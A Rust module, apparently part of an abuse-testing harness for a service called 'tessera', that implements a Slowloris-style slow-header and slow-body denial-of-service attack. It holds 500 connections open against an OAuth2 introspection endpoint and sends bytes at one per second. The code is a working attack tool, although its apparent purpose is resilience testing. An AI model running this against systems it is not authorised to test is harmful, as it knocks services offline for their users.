//! Heads and bodies that arrive at one byte a second.

use std::time::Duration;

use futures_util::future::join_all;
use tokio::time::sleep;

use crate::abuse::attack::socket::Socket;
use crate::abuse::attack::{Deeds, Target};

pub(super) const CONNECTIONS: usize = 500;
const PERIOD: Duration = Duration::from_secs(1);

const HEAD: &[u8] = b"POST /oauth2/introspect HTTP/1.1\r\nHost: tessera\r\nContent-Length: 60000\r\n\
    Content-Type: application/x-www-form-urlencoded\r\nX-Slow: 0123456789\r\n\r\n";

pub(super) async fn heads(target: &Target, deeds: &Deeds) {
    drip_on_all(target, deeds, b"").await;
}

pub(super) async fn bodies(target: &Target, deeds: &Deeds) {
    drip_on_all(target, deeds, HEAD).await;
}

/// Sends `first` at once, and what follows in the request byte by byte; and again when the server has had enough.
async fn drip_on_all(target: &Target, deeds: &Deeds, first: &[u8]) {
    join_all((0..CONNECTIONS).map(|_| async move {
        // Not all in the same moment.
        sleep(PERIOD.mul_f64(fastrand::f64())).await;
        loop {
            let Ok(mut socket) = Socket::open(target, deeds).await else {
                sleep(PERIOD).await;
                continue;
            };
            let rest = if first.is_empty() { HEAD } else { BODY };
            if socket.write(first).await.is_ok() {
                deeds.note(socket.drip(rest.chunks(1), PERIOD).await);
            }
        }
    }))
    .await;
}

const BODY: &[u8] = &[b'a'; 60_000];
